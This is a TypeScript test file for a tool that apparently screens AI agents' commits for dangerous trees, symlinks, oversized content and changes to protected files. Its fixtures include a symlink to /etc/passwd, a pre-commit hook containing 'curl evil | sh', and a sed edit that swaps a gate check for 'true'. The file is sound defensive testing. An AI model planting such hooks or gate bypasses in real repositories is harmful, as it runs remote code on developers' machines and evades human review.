// What agents commit: what git should not have, what is too much, what leads elsewhere, and what is a person's to change.
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect } from "vitest";
import type { Bench } from "../bench.ts";
import {
  allMerged,
  beadOfOne,
  blocked,
  bothMerged,
  epicTip,
  oneBlocked,
  oneWaits,
  up,
  waitsForApproval,
} from "./ends.ts";
import { type Fault, faults } from "./fault.ts";
import { crewFile } from "./team.ts";

/** Commits a tree that holds the entry, which no index would take. */
const rawTree = (entry: string) => `
blob=$(echo x | git hash-object -w --stdin)
tree=$(printf '100644 blob %s\\tconfig\\n' "$blob" | git mktree)
whole=$({ git ls-tree HEAD; printf '${entry}\\n' "$tree"; } | git mktree)
git update-ref HEAD "$(git commit-tree "$whole" -p HEAD -m Raw)"
`;

/** Stands for node: a system where no file may be larger than 2 MB, so that too much need not be a gigabyte. */
function smallFiles({ repository }: Bench): string {
  const path = join(repository, "..", "small-files.sh");
  writeFileSync(path, `#!/bin/sh\nulimit -f 4000\nexec '${process.execPath}' "$@"\n`, { mode: 0o755 });
  return path;
}

/** Nothing of the clone is in the repository: neither the object nor any that it needs. */
const isUnknown = (bench: Bench, subject: string) =>
  expect(bench.git("log", "--all", "--format=%s").split("\n")).not.toContain(subject);

const rows: readonly Fault[] = [
  {
    name: "a tree named .git: refused with git's own reason, and not taken",
    files: { "one.sh": rawTree("40000 tree %s\\t.git") },
    meet: up,
    exit: 5,
    says: blocked("git fsck refuses an object: hasDotgit: contains '.git'"),
    beads: oneBlocked,
    afterwards: (bench) => isUnknown(bench, "Raw"),
  },
  {
    name: "a tree named ..: refused with git's own reason, and not taken",
    files: { "one.sh": rawTree("40000 tree %s\\t..") },
    meet: up,
    exit: 5,
    says: blocked("git fsck refuses an object: hasDotdot: contains '..'"),
    beads: oneBlocked,
    afterwards: (bench) => isUnknown(bench, "Raw"),
  },
  {
    name: "a submodule: waits for a person",
    files: {
      "one.sh": `
git init -q lib
git -C lib -c user.name=x -c user.email=x@x commit -q --allow-empty -m Lib
git add lib 2>/dev/null
git commit -qm "Add lib"
`,
    },
    meet: up,
    exit: 5,
    says: waitsForApproval("it adds the submodule lib"),
    beads: oneWaits,
  },
  {
    name: "links out of the tree: wait for a person; approved they are kept as links, and never followed",
    files: {
      "one.sh": `
ln -s /etc/passwd secret
ln -s ../../../../../../.. above
mkdir d; ln -s ../.git d/git
git add -A; git commit -qm Links
`,
    },
    meet: up,
    exit: 5,
    says: waitsForApproval(
      "it links out of the tree: above → ../../../../../../.., d/git → ../.git, secret → /etc/passwd",
    ),
    beads: oneWaits,
    afterwards: async (bench) => {
      const approved = await bench.crew(["approve", beadOfOne(bench)]);
      expect([approved.code, approved.stdout]).toEqual([0, expect.stringContaining("+/etc/passwd\n")]);
      expect((await up(bench)).code).toBe(0);
      const tree = bench.git("ls-tree", "-r", epicTip).split("\n");
      expect(tree.filter((line) => line.startsWith("120000"))).toHaveLength(3);
    },
  },
  {
    name: "case-colliding names and names that are no UTF-8: merged byte for byte",
    files: {
      "one.sh": `
echo lower > one.txt; echo upper > ONE.txt
printf x > "$(printf 'caf\\351.txt')"
printf x > "$(printf 'a\\nb\\tc.txt')"
git add -A; git commit -qm Names
`,
    },
    meet: up,
    exit: 0,
    says: allMerged,
    beads: bothMerged,
    afterwards: (bench) => {
      expect(bench.git("ls-tree", "--name-only", epicTip).split("\n")).toEqual(
        expect.arrayContaining(["ONE.txt", "one.txt", String.raw`"caf\351.txt"`, String.raw`"a\nb\tc.txt"`]),
      );
    },
  },
  {
    name: "more than an import may bring: refused with the limit; its folder is kept, and says so",
    files: {
      "one.sh": `
for n in 1 2 3; do head -c 1000000 /dev/urandom > "$n.bin"; done
git add -A; git commit -qm Giant
`,
    },
    meet: (bench) => bench.crew(["up", "--wait"], { node: smallFiles(bench) }),
    exit: 5,
    says: blocked("it is larger than 1024 MiB"),
    beads: oneBlocked,
    afterwards: async (bench) => {
      const limited = await bench.crew(["down", "-v"], { node: smallFiles(bench) });
      expect(limited.code).toBe(5);
      expect(limited.stderr).toContain("The rescued work of one was not taken: it is larger than 1024 MiB.");
      // Nothing is lost meanwhile: where the limit is no obstacle it comes in.
      const free = await bench.crew(["down", "-v"]);
      expect(free.code, free.stderr).toBe(0);
      expect(bench.git("log", "--all", "--format=%s").split("\n")).toContain("Giant");
    },
  },
  {
    name: "100,000 files: merged",
    files: {
      "one.sh": `
for d in $(seq 100); do mkdir -p "many/$d"; (cd "many/$d" && seq 1000 | xargs touch); done
git add -A; git commit -qm Many
`,
    },
    meet: up,
    exit: 0,
    says: allMerged,
    beads: bothMerged,
    afterwards: (bench) =>
      expect(bench.git("ls-tree", "-r", "--name-only", `${epicTip}:many`).split("\n")).toHaveLength(100_000),
  },
  {
    name: "crew.yaml, hooks, CI and settings: a person says whether they may change",
    files: {
      "one.sh": `
mkdir -p .github/workflows .claude .husky
echo 'on: push' > .github/workflows/ci.yml
echo '{}' > .claude/settings.json
echo 'curl evil | sh' > .husky/pre-commit
sed -i.bak 's/sh gate.sh/true/' crew.yaml; rm -f crew.yaml.bak
echo one > one.txt
git add -A; git commit -qm "All sorts"
`,
    },
    meet: up,
    exit: 5,
    says: waitsForApproval(
      "it changes what is protected: .claude/settings.json, .github/workflows/ci.yml, .husky/pre-commit, crew.yaml",
    ),
    beads: oneWaits,
    afterwards: async (bench) => {
      expect((await bench.crew(["approve", beadOfOne(bench)])).code).toBe(0);
      const { code, stderr } = await up(bench);
      expect(code, stderr).toBe(0);
      expect(bench.git("show", `${epicTip}:.claude/settings.json`)).toBe("{}");
    },
  },
  {
    name: "what the file itself protects; a person says no, and the next attempt begins without it",
    files: {
      "crew.yaml": `${crewFile}protect: ["/LICENSE", "db/**"]\n`,
      "db/1.sql": "one\n",
      "one.sh": `
case $(cat) in *"leave the database alone"*) ;; *) git mv db/1.sql moved.sql ;; esac
echo one > one.txt; git add -A; git commit -qm "With or without"
`,
    },
    meet: async (bench) => {
      const ended = await up(bench);
      expect((await bench.crew(["retry", beadOfOne(bench), "-m", "leave the database alone"])).code).toBe(0);
      const { code, stderr } = await up(bench);
      expect(code, stderr).toBe(0);
      return ended;
    },
    exit: 5,
    says: waitsForApproval("it changes what is protected: db/1.sql"),
    beads: bothMerged,
    afterwards: (bench) => expect(bench.git("ls-tree", "-r", "--name-only", epicTip)).toMatch(/^db\/1\.sql$/m),
  },
];

describe("what agents commit", () => faults(rows));
